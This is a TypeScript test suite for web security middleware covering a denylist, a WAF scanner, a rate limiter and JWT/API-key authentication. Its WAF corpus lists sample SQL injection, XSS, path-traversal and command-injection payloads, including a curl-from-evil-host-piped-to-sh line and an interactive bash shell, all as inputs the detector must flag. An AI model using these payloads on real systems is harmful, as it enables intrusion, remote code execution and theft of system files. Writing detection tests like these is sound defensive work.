import { generateKeyPairSync } from "node:crypto"
import * as fc from "fast-check"
import * as jose from "jose"
import { describe, expect, it } from "vitest"
import {
  ApiKeys,
  authenticate,
  credentials,
  localJwks,
  publicKeyFromPem,
  secretKey,
  verifyJwt,
  wwwAuthenticate
} from "../../agents/auth/Logic.js"
import {
  cidrContains,
  evaluateDenylist,
  globMatch,
  parseCidr,
  parseDenylist,
  parseIp
} from "../../agents/denylist/Logic.js"
import { BucketTable, requestKey, take } from "../../agents/ratelimit/Logic.js"
import { assess, BodyScanner, decodeValue, RULES, scanBody, scanRequest } from "../../agents/waf/Logic.js"

// ---------------------------------------------------------------------------
describe("denylist logic", () => {
  it("parses IPv4, IPv6 (compressed, embedded v4, bracketed) and folds v4-mapped v6 to v4", () => {
    expect(parseIp("10.1.2.3")).toEqual({ family: 4, value: 0x0a010203n })
    expect(parseIp("::1")).toEqual({ family: 6, value: 1n })
    expect(parseIp("[2001:db8::1]")).toEqual({ family: 6, value: 0x20010db8000000000000000000000001n })
    expect(parseIp("::ffff:192.168.0.1")).toEqual({ family: 4, value: 0xc0a80001n })
    expect(parseIp("64:ff9b::1.2.3.4")?.family).toBe(6)
    for (const bad of ["", "1.2.3", "1.2.3.256", "01.2.3.4", "1::2::3", "12345::", "1:2:3:4:5:6:7:8:9", "g::1", "1.2.3.4/8"]) {
      expect(parseIp(bad), bad).toBeUndefined()
    }
  })

  it("property: an IPv4 address printed and parsed round-trips; v4-mapped v6 of it parses to the same address", () => {
    fc.assert(
      fc.property(fc.ipV4(), (ip) => {
        const v4 = parseIp(ip)
        expect(v4?.family).toBe(4)
        expect(parseIp(`::ffff:${ip}`)).toEqual(v4)
      })
    )
  })

  it("property: a CIDR contains exactly the addresses that share its first prefix bits", () => {
    const bits = (v: bigint, width: number) => v.toString(2).padStart(width, "0")
    fc.assert(
      fc.property(fc.ipV4(), fc.ipV4(), fc.integer({ min: 0, max: 32 }), (net, probe, prefix) => {
        const c = parseCidr(`${net}/${prefix}`)!
        const ip = parseIp(probe)!
        const same = bits(parseIp(net)!.value, 32).slice(0, prefix) === bits(ip.value, 32).slice(0, prefix)
        expect(cidrContains(c, ip)).toBe(same)
        expect(cidrContains(c, parseIp(net)!)).toBe(true)
      })
    )
    fc.assert(
      fc.property(fc.ipV6(), fc.ipV6(), fc.integer({ min: 0, max: 128 }), (net, probe, prefix) => {
        const c = parseCidr(`${net}/${prefix}`)
        const n = parseIp(net)!
        const ip = parseIp(probe)!
        fc.pre(c !== undefined && n.family === 6 && ip.family === 6)
        const same = bits(n.value, 128).slice(0, prefix) === bits(ip.value, 128).slice(0, prefix)
        expect(cidrContains(c!, ip)).toBe(same)
      })
    )
  })

  it("never matches across families", () => {
    expect(cidrContains(parseCidr("0.0.0.0/0")!, parseIp("2001:db8::1")!)).toBe(false)
    expect(cidrContains(parseCidr("::/0")!, parseIp("1.2.3.4")!)).toBe(false)
    expect(cidrContains(parseCidr("::ffff:10.0.0.0/104")!, parseIp("10.9.9.9")!)).toBe(true)
  })

  it("glob: * and ? semantics, and stays fast on hostile patterns", () => {
    expect(globMatch("/admin/*", "/admin/users")).toBe(true)
    expect(globMatch("/admin/*", "/admin")).toBe(false)
    expect(globMatch("*.php", "/x/index.php")).toBe(true)
    expect(globMatch("/a?c", "/abc")).toBe(true)
    expect(globMatch("*SQLMAP*", "sqlmap/1.7", true)).toBe(true)
    const t = Date.now()
    expect(globMatch("*a*a*a*a*a*a*a*a*b", "a".repeat(8000))).toBe(false)
    expect(Date.now() - t).toBeLessThan(500)
  })

  it("property: a glob without wildcards matches only the identical string; '*'+s+'*' is substring", () => {
    const plain = fc.string({ maxLength: 20 }).filter((s) => !s.includes("*") && !s.includes("?"))
    fc.assert(
      fc.property(plain, plain, (p, s) => {
        expect(globMatch(p, s)).toBe(p === s)
        expect(globMatch(`*${p}*`, s)).toBe(s.includes(p))
      })
    )
  })

  it("parses the text and JSON formats and rejects invalid entries with a line number", () => {
    const text = parseDenylist("# comment\n10.0.0.0/8\nip 2001:db8::/32\npath /wp-admin*\nua sqlmap  # scanner\n")
    expect(text.cidrs.map((c) => c.source)).toEqual(["10.0.0.0/8", "2001:db8::/32"])
    expect(text.paths).toEqual(["/wp-admin*"])
    expect(text.userAgents).toEqual(["sqlmap"])
    const json = parseDenylist(JSON.stringify({ ips: ["1.2.3.4"], paths: ["/x"], user_agents: ["*bot*"] }))
    expect(json.cidrs).toHaveLength(1)
    expect(() => parseDenylist("ok 1.2.3.4\n1.2.3.999")).toThrow(/line 1/)
    expect(() => parseDenylist("1.2.3.4\n1.2.3.999")).toThrow(/line 2: invalid IP/)
    expect(() => parseDenylist(JSON.stringify({ ipz: [] }))).toThrow(/unknown key/)
  })

  it("evaluates ip, path (query ignored) and user agent (case-insensitive)", () => {
    const list = parseDenylist("10.0.0.0/8\n2001:db8::/32\npath /admin/*\nua sqlmap\nua *nikto*")
    const ev = (clientIp: string, uri: string, ua?: string) => evaluateDenylist(list, { clientIp, uri, userAgent: ua })
    expect(ev("10.2.3.4", "/")).toMatchObject({ _tag: "Deny", kind: "ip", entry: "10.0.0.0/8" })
    expect(ev("::ffff:10.2.3.4", "/")).toMatchObject({ _tag: "Deny", kind: "ip" })
    expect(ev("2001:db8:1::5", "/")).toMatchObject({ _tag: "Deny", kind: "ip", entry: "2001:db8::/32" })
    expect(ev("11.0.0.1", "/admin/x?y=1")).toMatchObject({ _tag: "Deny", kind: "path" })
    expect(ev("11.0.0.1", "/public?next=/admin/x")).toEqual({ _tag: "Allow" })
    expect(ev("11.0.0.1", "/", "Mozilla SQLMap/1.0")).toMatchObject({ _tag: "Deny", kind: "user-agent", entry: "sqlmap" })
    expect(ev("11.0.0.1", "/", "Nikto/2")).toMatchObject({ _tag: "Deny", kind: "user-agent" })
    expect(ev("11.0.0.1", "/", "Mozilla/5.0")).toEqual({ _tag: "Allow" })
  })
})

// ---------------------------------------------------------------------------
/** Named corpus: attacks each category must catch, benign inputs none may flag at the default threshold. */
const ATTACKS: Record<string, Array<string>> = {
  sqli: [
    "1' OR '1'='1",
    "admin'--",
    "1 UNION SELECT username, password FROM users",
    "1; DROP TABLE users",
    "x' AND 1=1 --",
    "1' or sleep(5)#",
    "' UNION ALL SELECT NULL,NULL--",
    "1 and 1=1 union select * from information_schema.tables"
  ],
  xss: [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "javascript:alert(document.cookie)",
    "\"><iframe src=//evil>",
    "<body onload=alert(1)>"
  ],
  "path-traversal": ["../../etc/passwd", "..\\..\\windows\\win.ini", "/files/../../../etc/shadow", "....//....//etc/passwd"],
  "command-injection": ["; cat /etc/passwd", "| id", "$(whoami)", "`uname -a`", "x && curl http://evil/x.sh | sh", "a;/bin/bash -i"]
}
const BENIGN = [
  "hello world",
  "John O'Reilly",
  "The order of events",
  "select your plan",
  "price >= 10 and <= 20",
  "Tom & Jerry",
  "search for union station",
  "onion=1",
  "/api/v1/users/42",
  "2024-01-01T00:00:00Z",
  "https://example.com/a/b?c=d",
  "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
  "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
  "session=abc123; theme=dark; id=42",
  '{"name":"Alice","color":"#fff","note":"it\'s fine"}',
  "I'm sure it's 5 o'clock",
  "C:\\Users\\alice\\Documents",
  "email me at alice@example.com",
  "a.b.c/d..e",
  "rm is a command name"
]

describe("waf logic", () => {
  for (const [category, attacks] of Object.entries(ATTACKS)) {
    it(`flags every ${category} sample in the query, past the default threshold`, () => {
      for (const attack of attacks) {
        const a = assess(scanRequest({ uri: `/search?q=${encodeURIComponent(attack)}`, headers: {} }), 5)
        expect(a.exceeded, attack).toBe(true)
        expect(a.tags, attack).toContain(`attack-${category}`)
      }
    })
  }

  it("passes the benign corpus in query, header and body", () => {
    for (const text of BENIGN) {
      const q = assess(scanRequest({ uri: `/p?q=${encodeURIComponent(text)}`, headers: { "user-agent": [text], cookie: [text] } }), 5)
      expect(q.exceeded, `${text} -> ${q.ruleIds}`).toBe(false)
      expect(assess(scanBody(text, "application/json"), 5).exceeded, text).toBe(false)
    }
  })

  it("sees through double URL-encoding and scans the path, headers and form bodies", () => {
    expect(decodeValue("%252e%252e%252f", false)).toBe("../")
    expect(assess(scanRequest({ uri: "/static/%2e%2e/%2e%2e/etc/passwd", headers: {} }), 5).tags).toContain("attack-path-traversal")
    expect(assess(scanRequest({ uri: "/", headers: { referer: ["<script>alert(1)</script>"] } }), 5).exceeded).toBe(true)
    // Authorization is opaque and not scanned.
    expect(assess(scanRequest({ uri: "/", headers: { authorization: ["Bearer ' or 1=1 --"] } }), 5).exceeded).toBe(false)
    expect(assess(scanBody("user=admin%27--&pw=x", "application/x-www-form-urlencoded"), 5).exceeded).toBe(true)
  })

  it("scores additively and reports each rule once", () => {
    const a = assess(scanRequest({ uri: "/?a=<script>&b=<script>", headers: {} }), 100)
    expect(a.ruleIds).toEqual(["941100"])
    expect(a.score).toBe(5)
    expect(a.exceeded).toBe(false)
  })

  it("property: scanning is bounded — no rule takes long on adversarial repetitive input", () => {
    const pieces = ["'", " or ", "=", "<", "script", "../", ";", "$(", "union ", "select", "a", " ", "%", "--", "on", "error"]
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 50 }), fc.integer({ min: 1, max: 400 }), (parts, n) => {
        const s = parts.join("").repeat(n).slice(0, 20_000)
        const t = performance.now()
        for (const r of RULES) r.pattern.test(s)
        expect(performance.now() - t).toBeLessThan(200)
      }),
      { numRuns: 60 }
    )
  })

  it("body scanner finds a payload split across chunks and bounds what it keeps", () => {
    const s = new BodyScanner(5, 1 << 20, 2)
    expect(s.chunk("c1", Buffer.from("a=1&q=<scr"), false).assessment.exceeded).toBe(false)
    expect(s.chunk("c1", Buffer.from("ipt>alert(1)"), true).assessment.exceeded).toBe(true)
    expect(s.tracked).toBe(0)
    s.chunk("a", Buffer.from("x"), false)
    s.chunk("b", Buffer.from("x"), false)
    s.chunk("c", Buffer.from("x"), false)
    expect(s.tracked).toBe(2)
    const capped = new BodyScanner(5, 4, 10)
    expect(capped.chunk("d", Buffer.from("abcd<script>"), true)).toMatchObject({ truncated: true, assessment: { exceeded: false } })
  })
})

// ---------------------------------------------------------------------------
describe("ratelimit logic", () => {
  it("admits the burst, then refills at the rate", () => {
    const t = new BucketTable({ rate: 2, burst: 3 }, 10)
    expect([1, 2, 3, 4].map(() => t.take("k", 0).allowed)).toEqual([true, true, true, false])
    expect(t.take("k", 0).retryAfterSeconds).toBe(1)
    expect(t.take("k", 499).allowed).toBe(false)
    expect(t.take("k", 500).allowed).toBe(true)
  })

  it("property: over any schedule, admitted requests never exceed burst + rate * elapsed", () => {
    fc.assert(
      fc.property(
        fc.double({ min: 0.1, max: 100, noNaN: true }),
        fc.integer({ min: 1, max: 50 }),
        fc.array(fc.integer({ min: 0, max: 2000 }), { minLength: 1, maxLength: 300 }),
        (rate, burst, gaps) => {
          const b = { tokens: burst, at: 0 }
          let now = 0
          let admitted = 0
          for (const g of gaps) {
            now += g
            if (take(b, now, { rate, burst }).allowed) admitted++
            expect(b.tokens).toBeLessThanOrEqual(burst)
            expect(b.tokens).toBeGreaterThanOrEqual(0)
          }
          expect(admitted).toBeLessThanOrEqual(burst + (rate * now) / 1000 + 1e-9)
        }
      )
    )
  })

  it("property: a clock going backwards adds no tokens", () => {
    fc.assert(
      fc.property(fc.integer({ min: 0, max: 10_000 }), fc.integer({ min: 1, max: 10_000 }), (t, back) => {
        const b = { tokens: 0, at: t }
        expect(take(b, t - back, { rate: 10, burst: 5 }).allowed).toBe(false)
      })
    )
  })

  it("bounds its table, evicting the least recently used key", () => {
    const t = new BucketTable({ rate: 1, burst: 1 }, 2)
    t.take("a", 0)
    t.take("b", 0)
    t.take("a", 0) // a is now most recent
    t.take("c", 0) // evicts b
    expect(t.size).toBe(2)
    expect(t.take("a", 0).allowed).toBe(false) // a kept its empty bucket
    expect(t.take("b", 0).allowed).toBe(true) // b came back fresh
  })

  it("keys by header when configured and present, else by client ip", () => {
    expect(requestKey("1.2.3.4", { "x-api-key": ["k1"] }, "X-API-Key")).toBe("h:k1")
    expect(requestKey("1.2.3.4", {}, "X-API-Key")).toBe("ip:1.2.3.4")
    expect(requestKey("1.2.3.4", { "x-api-key": ["k".repeat(1000)] }, "x-api-key").length).toBeLessThanOrEqual(258)
  })
})

// ---------------------------------------------------------------------------
describe("auth logic", () => {
  const now = 1_700_000_000
  const secret = "s3cret-s3cret-s3cret-s3cret-0123"
  const hs = (claims: jose.JWTPayload, alg = "HS256", key = secret) =>
    new jose.SignJWT(claims).setProtectedHeader({ alg }).sign(new TextEncoder().encode(key))
  const opts = { leewaySeconds: 30, now }
  const { publicKey, privateKey } = generateKeyPairSync("rsa", { modulusLength: 2048 })
  const pem = publicKey.export({ type: "spki", format: "pem" }).toString()

  it("accepts valid HS256/384/512 tokens and reports the subject", async () => {
    for (const alg of ["HS256", "HS384", "HS512"]) {
      const token = await hs({ sub: "alice", exp: now + 60 }, alg)
      expect(await verifyJwt(token, { secret: secretKey(secret) }, opts)).toMatchObject({ _tag: "Authenticated", subject: "alice" })
    }
  })

  it("rejects expired (beyond leeway), not-yet-valid, bad signature, wrong issuer/audience", async () => {
    const keys = { secret: secretKey(secret) }
    expect(await verifyJwt(await hs({ sub: "a", exp: now - 10 }), keys, opts)).toMatchObject({ _tag: "Authenticated" })
    expect(await verifyJwt(await hs({ sub: "a", exp: now - 31 }), keys, opts)).toMatchObject({ _tag: "Invalid", code: "TOKEN_EXPIRED" })
    expect(await verifyJwt(await hs({ sub: "a", nbf: now + 60 }), keys, opts)).toMatchObject({ _tag: "Invalid", code: "CLAIM_INVALID" })
    expect(await verifyJwt(await hs({ sub: "a" }, "HS256", "other-secret-other-secret-012345"), keys, opts)).toMatchObject({ code: "BAD_SIGNATURE" })
    const iss = { ...opts, issuer: "https://idp", audience: ["api"] }
    expect(await verifyJwt(await hs({ sub: "a", iss: "https://idp", aud: "api" }), keys, iss)).toMatchObject({ _tag: "Authenticated" })
    expect(await verifyJwt(await hs({ sub: "a", iss: "https://evil", aud: "api" }), keys, iss)).toMatchObject({ code: "CLAIM_INVALID" })
    expect(await verifyJwt(await hs({ sub: "a", iss: "https://idp", aud: "web" }), keys, iss)).toMatchObject({ code: "CLAIM_INVALID" })
    expect(await verifyJwt("not.a.jwt", keys, opts)).toMatchObject({ _tag: "Invalid" })
  })

  it("verifies RS256 with a PEM public key and with a JWKS (by kid), and refuses algorithm confusion", async () => {
    const token = await new jose.SignJWT({ sub: "bob" }).setProtectedHeader({ alg: "RS256", kid: "k1" }).setExpirationTime(now + 60).sign(privateKey)
    expect(await verifyJwt(token, { publicKey: publicKeyFromPem(pem) }, opts)).toMatchObject({ _tag: "Authenticated", subject: "bob" })
    const jwk = { ...(await jose.exportJWK(publicKey)), kid: "k1", alg: "RS256" }
    expect(await verifyJwt(token, { jwks: localJwks(JSON.stringify({ keys: [jwk] })) }, opts)).toMatchObject({ subject: "bob" })
    // HS256 signed with the public key's PEM as the secret must not verify against the RSA key.
    const confused = await hs({ sub: "mallory" }, "HS256", pem)
    expect(await verifyJwt(confused, { publicKey: publicKeyFromPem(pem) }, opts)).toMatchObject({ _tag: "Invalid", code: "ALG_NOT_ALLOWED" })
    // alg "none" is never accepted.
    const none = new jose.UnsecuredJWT({ sub: "x" }).encode()
    expect(await verifyJwt(none, { secret: secretKey(secret), publicKey: publicKeyFromPem(pem) }, opts)).toMatchObject({ _tag: "Invalid" })
  })

  it("API keys: lookup by key, JSON and text formats; API key wins over a bearer token", async () => {
    const text = ApiKeys.parse("# keys\nk-123 svc-a\nk-456\n")
    expect(text.lookup("k-123")).toBe("svc-a")
    expect(text.lookup("k-456")).toBe("api-key-1")
    expect(text.lookup("k-999")).toBeUndefined()
    expect(ApiKeys.parse(JSON.stringify({ "k-1": "svc" })).lookup("k-1")).toBe("svc")
    const keys = { secret: secretKey(secret) }
    expect(await authenticate({ apiKey: "k-123", bearer: "x" }, text, keys, opts)).toMatchObject({ method: "api-key", subject: "svc-a" })
    expect(await authenticate({ apiKey: "nope" }, text, keys, opts)).toMatchObject({ _tag: "Invalid", code: "API_KEY_INVALID" })
    expect(await authenticate({}, text, keys, opts)).toEqual({ _tag: "Missing" })
  })

  it("reads credentials and builds RFC 6750 challenges", () => {
    expect(credentials({ authorization: ["Bearer abc.def.ghi"], "x-api-key": ["k"] })).toEqual({ bearer: "abc.def.ghi", apiKey: "k" })
    expect(credentials({ authorization: ["Basic dXNlcjpwYXNz"] })).toEqual({})
    expect(wwwAuthenticate("sentinel", { _tag: "Missing" })).toBe('Bearer realm="sentinel"')
    expect(wwwAuthenticate("sentinel", { _tag: "Invalid", method: "jwt", reason: 'bad "sig"\r\n', code: "BAD_SIGNATURE" })).toBe(
      'Bearer realm="sentinel", error="invalid_token", error_description="bad sig"'
    )
  })
})
